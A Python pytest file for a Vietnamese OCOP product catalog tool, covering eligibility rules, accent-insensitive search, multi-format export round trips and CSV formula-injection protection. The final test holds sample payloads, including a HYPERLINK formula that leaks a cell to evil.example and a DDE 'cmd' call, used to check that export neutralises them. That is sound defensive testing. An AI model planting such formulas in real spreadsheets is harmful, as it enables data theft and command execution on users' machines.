"""Eligibility, search, export round trips and master stock: the catalog after an import."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from ocopsync.catalog import (
    ProductRecord,
    export_catalog,
    fold,
    get_product,
    import_catalog,
    ineligibility_reason,
    is_eligible,
    list_products,
    product_as_row,
)
from ocopsync.catalog_files import COLUMNS, EXPORT_COLUMNS
from ocopsync.errors import CatalogError
from ocopsync.models import Entity, make_engine

TODAY = date(2026, 11, 24)

# sku | name | entity | province | district | group | price, as a cooperative types them
PRODUCTS = [
    line.split(" | ")
    for line in """\
QN-BACHE-0001 | Trà hoa vàng Ba Chẽ | QN-E001 | Quảng Ninh | Ba Chẽ | beverage | 180.000
QN-BINHLIEU-0001 | Miến dong Bình Liêu | QN-E002 | Quảng Ninh | Bình Liêu | food | 45000
BT-MOCAYNAM-0001 | Kẹo dừa sữa Bến Tre | BT-E001 | Bến Tre | Mỏ Cày Nam | food | 45,000
AG-TRITON-0001 | Đường thốt nốt nguyên chất | AG-E001 | An Giang | Tri Tôn | food | 55000
TH-NGASON-0001 | Chiếu cói Nga Sơn in hoa | TH-E001 | Thanh Hóa | Nga Sơn | handicraft | 250.000
""".splitlines()
]


def write_catalog(path: Path) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        for sku, name, entity, province, district, group, price in PRODUCTS:
            writer.writerow([
                sku, name, entity, f"Cơ sở {name}", "household", province, district, group, "4",
                "01/03/2024", "2027-03-01", price, "1.200", "500", "",
                "Mô tả: \"đặc sản\", có dấu phẩy, và\nxuống dòng.",
                "https://img.example/a.jpg\nhttps://img.example/b.jpg", "active",
                "", "", "", "", "Xuất xứ=Việt Nam; Hạn sử dụng=12 tháng", "Ba Chẽ", "", "",
            ])  # fmt: skip
    return path


@pytest.fixture
def engine(tmp_path: Path) -> Engine:
    engine = make_engine(f"sqlite:///{tmp_path}/t.db")
    import_catalog(engine, write_catalog(tmp_path / "catalog.csv"))
    return engine


# --- eligibility ----------------------------------------------------------------------

BASE = ProductRecord(
    sku="QN-BACHE-0001",
    name="Trà hoa vàng Ba Chẽ",
    entity_code="QN-E001",
    province="Quảng Ninh",
    group="beverage",
    stars=4,
    expires_on=TODAY + timedelta(days=30),
    price_vnd=180_000,
    stock=10,
)


@pytest.mark.parametrize(
    ("changes", "min_stars", "reason"),
    [
        ({}, 3, None),
        ({}, 4, None),
        ({"expires_on": TODAY}, 3, None),
        ({"expires_on": TODAY - timedelta(days=1)}, 3, "certificate expired on 2026-11-23"),
        ({"status": "discontinued"}, 3, "discontinued"),
        ({"stars": 3}, 4, "3 stars, connection needs 4"),
        ({"stars": 4}, 5, "4 stars, connection needs 5"),
        ({"group": "tourism"}, 3, "tourism services are not shippable goods"),
    ],
)
def test_eligibility_rules(changes: dict[str, object], min_stars: int, reason: str | None) -> None:
    record = replace(BASE, **changes)  # type: ignore[arg-type]
    assert ineligibility_reason(record, min_stars=min_stars, today=TODAY) == reason
    assert is_eligible(record, min_stars=min_stars, today=TODAY) is (reason is None)


def test_eligibility_reads_stored_products(engine: Engine) -> None:
    with Session(engine) as session:
        product = get_product(session, "QN-BACHE-0001")
        assert is_eligible(product, min_stars=4, today=date(2027, 3, 1))
        assert ineligibility_reason(product, min_stars=4, today=date(2027, 3, 2)) == (
            "certificate expired on 2027-03-01"
        )


# --- queries --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("search", "expected"),
    [
        ("tra hoa vang", ["QN-BACHE-0001"]),
        ("TRÀ HOA VÀNG", ["QN-BACHE-0001"]),
        ("Tra Vang Ba Che", ["QN-BACHE-0001"]),
        ("duong thot not", ["AG-TRITON-0001"]),
        ("Đường", ["AG-TRITON-0001"]),
        ("mien dong binh lieu", ["QN-BINHLIEU-0001"]),
        ("keo dua", ["BT-MOCAYNAM-0001"]),
        ("bachE-0001", ["QN-BACHE-0001"]),
        ("trà sữa", []),
    ],
)
def test_search_ignores_accents_and_case(engine: Engine, search: str, expected: list[str]) -> None:
    with Session(engine) as session:
        assert [p.sku for p in list_products(session, search=search)] == expected


def test_fold_maps_d_with_stroke() -> None:
    assert fold("Đồng Tháp, đường") == "dong thap, duong"
    assert fold("Quảng Ninh") == fold("QUANG NINH")


def test_filters_and_order(engine: Engine) -> None:
    with Session(engine) as session:
        everything = [p.sku for p in list_products(session)]
        assert everything == sorted(everything)
        assert [p.sku for p in list_products(session, province="quang ninh")] == [
            "QN-BACHE-0001",
            "QN-BINHLIEU-0001",
        ]
        assert [p.sku for p in list_products(session, group="Handicraft")] == ["TH-NGASON-0001"]
        assert [p.sku for p in list_products(session, entity="BT-E001")] == ["BT-MOCAYNAM-0001"]
        assert list_products(session, province="Quảng Ninh", group="handicraft") == []


def test_unknown_sku_is_a_catalog_error(engine: Engine) -> None:
    with (
        Session(engine) as session,
        pytest.raises(CatalogError, match="no product with SKU 'NOPE-1'"),
    ):
        get_product(session, "NOPE-1")


def test_product_as_row_shape(engine: Engine) -> None:
    with Session(engine) as session:
        product = get_product(session, "QN-BACHE-0001")
        row = product_as_row(product, session.get(Entity, product.entity_code))
    assert list(row) == list(COLUMNS)
    assert row["certified_on"] == "2024-03-01"
    assert row["expires_on"] == "2027-03-01"
    assert (row["price_vnd"], row["stock"], row["stars"]) == (180_000, 1_200, 4)
    assert row["image_urls"] == "https://img.example/a.jpg|https://img.example/b.jpg"
    assert (row["entity_name"], row["entity_kind"]) == ("Cơ sở Trà hoa vàng Ba Chẽ", "household")
    assert row["attributes"] == "Xuất xứ=Việt Nam; Hạn sử dụng=12 tháng"
    assert row["brand"] == "Ba Chẽ"
    json.dumps(row)  # the `catalog list --format json` shape must serialise as is


# --- export ---------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".json"])
def test_export_round_trip_is_all_unchanged(engine: Engine, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"export{suffix}"
    assert export_catalog(engine, path) == len(PRODUCTS)
    report = import_catalog(engine, path)
    assert (report.added, report.updated, report.unchanged) == (0, 0, len(PRODUCTS))
    assert report.entities_updated == ()


def test_export_into_an_empty_database_restores_everything(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "export.json"
    export_catalog(engine, path)
    fresh = make_engine(f"sqlite:///{tmp_path}/fresh.db")
    assert import_catalog(fresh, path).added == len(PRODUCTS)
    with Session(engine) as old, Session(fresh) as new:
        assert [p.model_dump(exclude={"updated_at"}) for p in list_products(old)] == [
            p.model_dump(exclude={"updated_at"}) for p in list_products(new)
        ]
        by_code = select(Entity).order_by(Entity.code)
        assert old.exec(by_code).all() == new.exec(by_code).all()


def test_csv_export_has_bom_and_filters(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "qn.csv"
    assert export_catalog(engine, path, province="Quang Ninh") == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfsku,name,entity_code,")
    assert "Trà hoa vàng Ba Chẽ".encode() in raw


def test_json_export_keeps_vietnamese_readable(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "catalog.json"
    export_catalog(engine, path, group="food")
    text = path.read_text(encoding="utf-8")
    assert "Kẹo dừa sữa Bến Tre" in text
    data = json.loads(text)
    assert [item["sku"] for item in data] == [
        "AG-TRITON-0001",
        "BT-MOCAYNAM-0001",
        "QN-BINHLIEU-0001",
    ]
    assert list(data[0]) == list(EXPORT_COLUMNS)


def test_export_to_unknown_format_is_refused(engine: Engine, tmp_path: Path) -> None:
    with pytest.raises(CatalogError, match=r"cannot export to '\.txt'"):
        export_catalog(engine, tmp_path / "catalog.txt")


# --- master stock ---------------------------------------------------------------------


# --- formula injection ------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted by hand",
    "''+two quotes",
    "'just an apostrophe",
    "a = b, not a formula",
]


def test_csv_export_neutralises_formulas_and_reimport_restores_them(
    engine: Engine, tmp_path: Path
) -> None:
    """OWASP CSV injection: a quote before = + - @ tab CR; import takes it off again."""
    with Session(engine) as session:
        template = product_as_row(get_product(session, "QN-BACHE-0001"), None)
    seed = [
        {**template, "sku": f"FX-{i}", "description": text, "name": text}
        for i, text in enumerate(FORMULAS)
    ]
    source = tmp_path / "seed.json"
    source.write_text(json.dumps(seed, ensure_ascii=False, default=str), encoding="utf-8")
    assert import_catalog(engine, source).added == len(FORMULAS)
    path = tmp_path / "export.csv"
    export_catalog(engine, path, entity="QN-E001")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = {row["sku"]: row for row in csv.DictReader(handle)}
    shown = [cells[f"FX-{i}"]["description"] for i in range(len(FORMULAS))]
    assert shown == [
        "'" + FORMULAS[0],
        "'" + FORMULAS[1],
        "'-2+3",
        "'@SUM(A1:A9)",
        "''=already quoted by hand",
        "'''+two quotes",
        "'just an apostrophe",
        "a = b, not a formula",
    ]
    assert not any(c[:1] in "=+-@\t\r" for row in cells.values() for c in row.values() if c)

    again = import_catalog(engine, path)
    assert (again.updated, again.added) == (0, 0)
    fresh = make_engine(f"sqlite:///{tmp_path}/fresh.db")
    import_catalog(fresh, path)
    with Session(fresh) as session:
        restored = {p.sku: (p.name, p.description) for p in list_products(session)}
    assert [restored[f"FX-{i}"] for i in range(len(FORMULAS))] == [(t, t) for t in FORMULAS]
